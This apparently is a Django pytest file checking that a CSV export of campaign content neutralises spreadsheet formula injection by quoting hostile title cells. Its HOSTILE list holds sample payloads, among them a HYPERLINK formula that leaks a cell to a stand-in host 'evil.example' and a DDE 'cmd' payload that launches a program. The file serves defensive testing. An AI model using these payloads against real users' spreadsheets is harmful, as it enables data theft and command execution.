"""The contents CSV cannot carry spreadsheet formulas: text cells that a spreadsheet would run
(starting with = + - @, a tab or a carriage return) get a leading single quote, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client as HttpClient

from apps.contents.models import Content

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _export(people) -> list[dict]:
    web = HttpClient()
    web.force_login(people["operator"])
    r = web.get("/dashboards/contents.csv")
    assert r.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode(), newline="")))


def test_text_cells_that_spreadsheets_would_run_are_quoted(people, client_a, make_campaign, now):
    made = {}
    for i, title in enumerate(HOSTILE + ["a = b, plainly", "Calm title"]):
        campaign = make_campaign(client_a, created_at=now - timedelta(hours=i + 1), waves=[{"sends": 10, "clicks": 1, "expected": 0.5}])
        Content.objects.filter(pk=campaign.content_id).update(title=title)  # exactly as stored, whatever the API allows
        made[campaign.pk] = title
    Content.objects.filter(pk=campaign.content_id).update(category="=cmd")

    rows = {int(r["campaign_id"]): r for r in _export(people)}

    assert {pk: rows[pk]["title"] for pk in made} == {
        pk: ("'" + title if title[0] in "=+-@\t\r" else title) for pk, title in made.items()}
    assert rows[campaign.pk]["category"] == "'=cmd"
    hyperlink = next(pk for pk, t in made.items() if t.startswith("=HYPERLINK"))
    assert rows[hyperlink]["title"] == "'" + HOSTILE[0]  # the whole formula, kept as text


def test_negative_numbers_stay_numbers(people, client_a, make_campaign, now):
    campaign = make_campaign(client_a, created_at=now - timedelta(hours=1), push_score=-0.75,
                             waves=[{"sends": 10, "clicks": 1, "expected": 0.5}], title="-0.75 points")

    [row] = _export(people)

    assert int(row["campaign_id"]) == campaign.pk
    assert row["predicted_improvement"] == "-0.7500" and float(row["predicted_improvement"]) == -0.75
    assert row["achieved_improvement"] == "2.0000" and row["sends"] == "10"
    assert row["title"] == "'-0.75 points"  # text that looks like a number is still text
